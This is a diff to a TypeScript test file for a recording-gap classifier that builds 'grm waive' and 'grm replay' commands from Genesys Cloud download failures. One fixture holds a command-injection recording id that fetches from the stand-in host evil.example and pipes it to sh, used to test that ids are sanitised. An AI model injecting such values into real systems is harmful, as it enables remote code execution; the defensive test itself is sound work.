@@ -28,6 +28,18 @@ describe('gap kinds', () => {
       ],
       ['unsupported media type "fax"', 'unsupported-media'],
       ['batch failed on 4 deliveries; the last error: boom', 'batch-failed'],
+      [
+        'a gap of this run that the batch report no longer accounts for (recording r): it was neither exported nor skipped',
+        'report-disagrees',
+      ],
+      ['unexpected fileState FROZEN', 'unexpected-state'],
+      [
+        'the batch download request completed without a result for it: the OAuth client may lack',
+        'left-out',
+      ],
+      ['planned but missing from the batch report', 'batch-failed'],
+      ['download URL kept expiring before it could be used', 'transient'],
+      ['conversation not found in Genesys Cloud', 'transient'],
       ['Genesys batch download error: socket hang up', 'transient'],
     ];
     assert.deepStrictEqual(
@@ -47,11 +59,12 @@ describe('gap kinds', () => {
     );
     assert.match(
       gapAction('in an error state at the source (fileState ERROR)', DAY),
-      /accept them with `grm waive 2026-03-29 --recording ID --reason \.\.\.`$/,
+      /accept them with `grm waive 2026-03-29 --recording ID --reason \.\.\. --by EMAIL`$/,
     );
   });
 
-  it('should group the largest kind first, name at most maxNamed recordings to waive, and keep conversation order', () => {
+  it('should group the largest kind first, name at most maxNamed well-formed recording ids to waive, and keep conversation order', () => {
+    const uuid = (n: number) => `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`;
     const gap = (c: string, r: string | undefined, reason: string) => ({
       batchId: 'b1',
       conversationId: c,
@@ -60,9 +73,10 @@ describe('gap kinds', () => {
     });
     const groups = gapGroups(
       [
-        gap('c3', 'r3', 'fileState ERROR'),
-        gap('c1', 'r1', 'fileState ERROR'),
-        gap('c2', 'r2', 'fileState ERROR'),
+        gap('c3', uuid(3), 'fileState ERROR'),
+        gap('c1', uuid(1), 'fileState ERROR'),
+        gap('c2', uuid(2), 'fileState ERROR'),
+        gap('c4', 'x;curl${IFS}evil.example|sh;#', 'fileState ERROR'),
         gap('c9', undefined, 'batch failed: x'),
       ],
       DAY,
@@ -71,14 +85,33 @@ describe('gap kinds', () => {
     assert.deepStrictEqual(
       groups.map(g => [g.kind, g.gaps.map(x => x.conversationId)]),
       [
-        ['source-error', ['c1', 'c2', 'c3']],
+        ['source-error', ['c1', 'c2', 'c3', 'c4']],
         ['batch-failed', ['c9']],
       ],
     );
     assert.match(
       groups[0]!.command,
-      /^grm waive 2026-03-29 --recording r1 --recording r2 --reason /,
+      new RegExp(`^grm waive 2026-03-29 --recording ${uuid(1)} --recording ${uuid(2)} --reason `),
     );
+    assert.strictEqual(groups[0]!.named, 2);
     assert.strictEqual(groups[1]!.command, 'grm replay 2026-03-29 --wait 600');
+    // A recording id that is not a Genesys id never reaches a command line.
+    const hostile = gapGroups([gap('c4', 'x;curl${IFS}evil.example|sh;#', 'fileState ERROR')], DAY);
+    assert.match(hostile[0]!.command, /--recording ID --reason/);
+    assert.doesNotMatch(hostile[0]!.command, /curl/);
+  });
+
+  it('should group a day of 100,000 gaps (a whole failed day) without copying lists per gap', () => {
+    const many = Array.from({length: 100_000}, (_, i) => ({
+      batchId: 'b1',
+      conversationId: `c${i}`,
+      recordingId: `r${i}`,
+      reason: i % 2 ? 'fileState ERROR' : 'fileState ARCHIVED',
+    }));
+    const groups = gapGroups(many, DAY);
+    assert.deepStrictEqual(
+      groups.map(g => g.gaps.length),
+      [50_000, 50_000],
+    );
   });
 });
